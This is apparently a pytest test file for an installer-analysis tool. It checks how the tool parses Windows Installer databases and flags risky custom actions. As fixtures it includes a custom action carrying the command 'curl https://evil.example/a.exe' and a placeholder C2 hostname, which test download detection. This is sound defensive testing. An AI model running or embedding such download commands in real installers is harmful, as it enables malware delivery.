"""Windows Installer databases: what must be said, then what comes out."""

from __future__ import annotations

import shutil
import struct
import subprocess

import pytest

from fwverify.reader import Malformed
from fwverify.unpack.installers.msi_names import decode_stream_name, encode_stream_name
from fwverify.unpack.installers.msi_tables import Column, read_rows, read_strings
from fwverify.unpack.installers.propertyset import read_property_set
from tests.unpack.helpers import Bench, codes, kinds, rules, sha
from tests.unpack_installers.builders import (
    KEY,
    MSP_CLSID,
    TEXT,
    Database,
    product,
    summary,
)  # fmt: skip
from tests.unpack_installers.builders import (
    encode_stream_name as encoded,
)

SYSTEM = 0x400 | 0x800


def actions_of(opened):
    return [each for each in opened.observations if each.rule == "msi.custom_action"]


def test_an_action_that_runs_as_system_is_said_and_is_more_severe():
    opened = Bench().open(product([("A", 1 | SYSTEM, "Dll", "F"), ("B", 1, "Dll", "G")]).build())
    system, user = actions_of(opened)
    assert (system.severity, user.severity) == ("medium", "low")
    assert "SYSTEM" in system.text
    assert "SYSTEM" not in user.text


@pytest.mark.parametrize("kind", [19, 35, 51])
def test_an_action_that_runs_nothing_is_not_said(kind):
    assert not actions_of(Bench().open(product([("A", kind, "P", "V")]).build()))


@pytest.mark.parametrize("kind", [1, 2, 5, 6, 17, 18, 21, 22, 34, 37, 38, 50, 53, 54, 7, 23, 39])
def test_every_kind_that_runs_code_is_said(kind):
    assert len(actions_of(Bench().open(product([("A", kind, "Script", "V")]).build()))) == 1


@pytest.mark.parametrize(("kind", "name"), [(37, b"js"), (38, b"vbs")])
def test_a_script_in_a_table_is_a_child(kind, name):
    bench = Bench()
    opened = bench.open(product([("Go", kind, "", "line1\r\nline2")]).build())
    assert bench.content(opened, b"CustomAction/Go." + name) == b"line1\r\nline2"


def test_a_script_in_a_property_is_a_child():
    bench = Bench()
    opened = bench.open(product([("Go", 54, "Script", "")]).build())
    assert bench.content(opened, b"CustomAction/Go.vbs") == b"WScript.Echo 'p'"


def test_an_address_in_an_action_is_said():
    opened = Bench().open(product([("D", 34, "X", "curl https://evil.example/a.exe")]).build())
    assert "msi.download" in rules(opened)


def test_a_cabinet_that_is_not_there_is_incomplete():
    made = product()
    made.table("Media", [("DiskId", 0x2502), ("Cabinet", TEXT)], (1, "#in.cab"), (2, "out.cab"))
    opened = Bench().open(made.build())
    assert codes(opened) == {"missing.cabinet"}
    assert len(opened.problems) == 2
    assert ("external_cabinet", "out.cab") in opened.attributes


def test_a_patch_is_never_complete():
    made = Database(clsid=MSP_CLSID)
    made.put("transform", b"difference")
    opened = Bench().open(made.build())
    assert opened.format == "msp"
    assert "unsupported" in codes(opened)
    assert any(entry.sha256 == sha(b"difference") for entry in opened.entries)


def test_a_table_that_no_column_describes_is_said_and_a_child():
    made = product()
    made.file.stream(encoded("Secret", table=True), b"hidden bytes")
    opened = Bench().open(made.build())
    assert "msi.unknown_table" in rules(opened)
    assert any(entry.sha256 == sha(b"hidden bytes") for entry in opened.entries)


def test_a_table_of_a_broken_row_is_malformed_and_a_child():
    made = product()
    made.table("Odd", [("Key", KEY)])
    made._pack = lambda columns, rows, own=made._pack: own(columns, rows) or b"xyz"
    opened = Bench().open(made.build())
    assert "format.malformed" in codes(opened)
    assert any(entry.sha256 == sha(b"xyz") for entry in opened.entries)


def test_a_database_without_strings_is_incomplete():
    made = product()
    opened = Bench().open(made.build().replace(encoded("_StringData", table=True), b"x\0" * 7))
    assert not opened.complete


@pytest.mark.parametrize(
    ("pool", "data"),
    [
        (b"", b""),
        (b"abc", b""),
        (struct.pack("<IHH", 1252, 5, 1), b"four"),
        (struct.pack("<IHH", 1252, 3, 1), b"four"),
        (struct.pack("<IHH", 1252, 0, 1), b""),
        (struct.pack("<IHHI", 1252, 0, 1, 0xFFFFFFFF), b"four"),
    ],
)
def test_a_broken_string_pool_raises(pool, data):
    with pytest.raises(Malformed):
        read_strings(pool, data)


def test_a_string_of_more_than_64_kib():
    text = b"x" * 70000
    strings = read_strings(struct.pack("<IHHI", 0x80000000, 0, 1, len(text)), text)
    assert strings.get(1) == text.decode()
    assert strings.reference_bytes == 3
    assert strings.get(7) == "<no string 7>"


def test_cells_are_bounded():
    strings = read_strings(struct.pack("<I", 0), b"")
    with pytest.raises(Malformed):
        read_rows("T", (Column("a", False, False, 2),), strings, bytes(20), 9)
    assert len(read_rows("T", (Column("a", False, False, 2),), strings, bytes(20), 10)) == 10


def test_a_string_that_no_table_uses_is_in_the_text_of_strings():
    made = product()
    made.number("c2.evil.example")
    bench = Bench()
    assert b"c2.evil.example" in bench.content(bench.open(made.build()), b"table:_Strings.tsv")


def test_control_characters_cannot_forge_a_row():
    made = product()
    made.table("T", [("Key", KEY)], ("a\nb\tc\\",))
    bench = Bench()
    assert bench.content(bench.open(made.build()), b"table:T.tsv") == b"Key\na\\nb\\tc\\\\\n"


@pytest.mark.parametrize("cut", [0, 3, 27, 40, 50, 60])
def test_a_cut_property_set_raises(cut):
    data = summary((7, 30, b"x64;1033\0"), (1, 2, b"\xe4\x04"))
    with pytest.raises(Malformed):
        read_property_set(data[:cut])


def test_bytes_that_no_property_uses_stay_unexplained():
    made = product()
    data = summary((7, 30, b"x64;1033\0")) + b"smuggled"
    made.file.stream("\x05SummaryInformation".encode("utf-16-le"), data)
    opened = Bench().open(made.build())
    assert kinds(opened)["unexplained"] >= 8
    assert opened.identity.arch == "x86_64"


@pytest.mark.parametrize("name", ["Property", "Binary.CaDll", "a b", "_", "x.y_Z-1"])
@pytest.mark.parametrize("table", [False, True])
def test_stream_names_come_back(name, table):
    assert decode_stream_name(encode_stream_name(name, table=table)) == (name, table)


@pytest.mark.parametrize("long_refs", [False, True])
def test_tables_and_identity(long_refs):
    made = product([("A", 2, "Tool", "/x")], {"Binary.Tool": b"#!/bin/sh\n"})
    made.long_refs = long_refs
    bench = Bench()
    opened = bench.open(made.build())
    assert opened.complete
    assert opened.format == "msi"
    assert "unexplained" not in kinds(opened)
    who = opened.identity
    assert (who.vendor, who.product, who.version) == ("Acme Imaging", "Scanner Suite", "3.4.5")
    rows = bench.content(opened, b"table:CustomAction.tsv").decode().split("\n")
    assert rows[1] == "A\t2\tTool\t/x"
    assert bench.content(opened, b"Binary.Tool") == b"#!/bin/sh\n"


# --- the reference programs ----------------------------------------------------------

needs_msitools = pytest.mark.skipif(
    not all(shutil.which(name) for name in ("wixl", "msiinfo")),
    reason="FORMAT NOT TESTED: wixl and msiinfo are absent (Debian: wixl, msitools)",
)
_WXS = """<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi">
<Product Name="Suite" Id="ABCDDCBA-86C7-4D14-AEC0-86416A69ABDE" Language="1033" Version="3.4.5"
 UpgradeCode="ABCDDCBA-7349-453F-94F6-BCB5110BA4FD" Manufacturer="Acme">
<Package InstallerVersion="200" Compressed="yes"/>
<Media Id="1" Cabinet="in.cab" EmbedCab="yes"/>
<Binary Id="Ca" SourceFile="ca.bin"/>
<CustomAction Id="RunIt" BinaryKey="Ca" DllEntry="Entry" Execute="deferred" Impersonate="no"/>
<Directory Id="TARGETDIR" Name="SourceDir"><Component Id="M"
 Guid="ABCDDCBA-83F1-4F22-985B-FDB3C8ABD471"><File Id="TheKey" Name="app.txt" Source="app.txt"
 KeyPath="yes"/></Component></Directory>
<Feature Id="F" Level="1"><ComponentRef Id="M"/></Feature></Product></Wix>"""


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    folder = tmp_path_factory.mktemp("msi")
    (folder / "a.wxs").write_text(_WXS)
    (folder / "app.txt").write_text("hello application\n")
    (folder / "ca.bin").write_bytes(bytes(range(256)) * 30)
    subprocess.run(
        ["wixl", "-o", "a.msi", "a.wxs"], cwd=folder, check=True, capture_output=True, timeout=60
    )
    return folder / "a.msi"


@needs_msitools
def test_wixl_s_database_is_read_to_the_last_byte(built):
    bench = Bench()
    opened = bench.open(built.read_bytes())
    assert opened.complete
    assert "unexplained" not in kinds(opened)
    assert bench.content(opened, b"Binary.Ca") == bytes(range(256)) * 30
    assert bench.content(opened, b"in.cab")[:4] == b"MSCF"
    assert b"TheKey" in bench.content(opened, b"table:File.tsv")
    assert [each.severity for each in actions_of(opened)] == ["medium"]


@needs_msitools
def test_every_table_is_what_msiinfo_says(built):
    bench = Bench()
    opened = bench.open(built.read_bytes())
    listed = subprocess.run(["msiinfo", "tables", built], capture_output=True, check=True)
    names = {name for name in listed.stdout.decode().split() if not name.startswith("_")}
    assert len(names) > 10
    for name in names - {"Binary"}:  # msiinfo shows a stream's cell as its name
        said = subprocess.run(["msiinfo", "export", built, name], capture_output=True, check=True)
        expected = [line.split("\t") for line in said.stdout.decode().split("\r\n")]
        if len([line for line in expected[3:] if line != [""]]) == 0:
            continue
        ours = bench.content(opened, f"table:{name}.tsv".encode()).decode().split("\n")
        assert ours[0].split("\t") == expected[0], name
        rows = sorted(line.split("\t") for line in ours[1:] if line)
        assert rows == sorted(line for line in expected[3:] if line != [""]), name


@needs_msitools
def test_every_prefix_of_wixl_s_database_is_incomplete(built):
    data = built.read_bytes()
    for end in range(600, len(data) - 512, 997):
        opened = Bench().open(data[:end])
        assert not opened.complete or kinds(opened).get("unexplained")
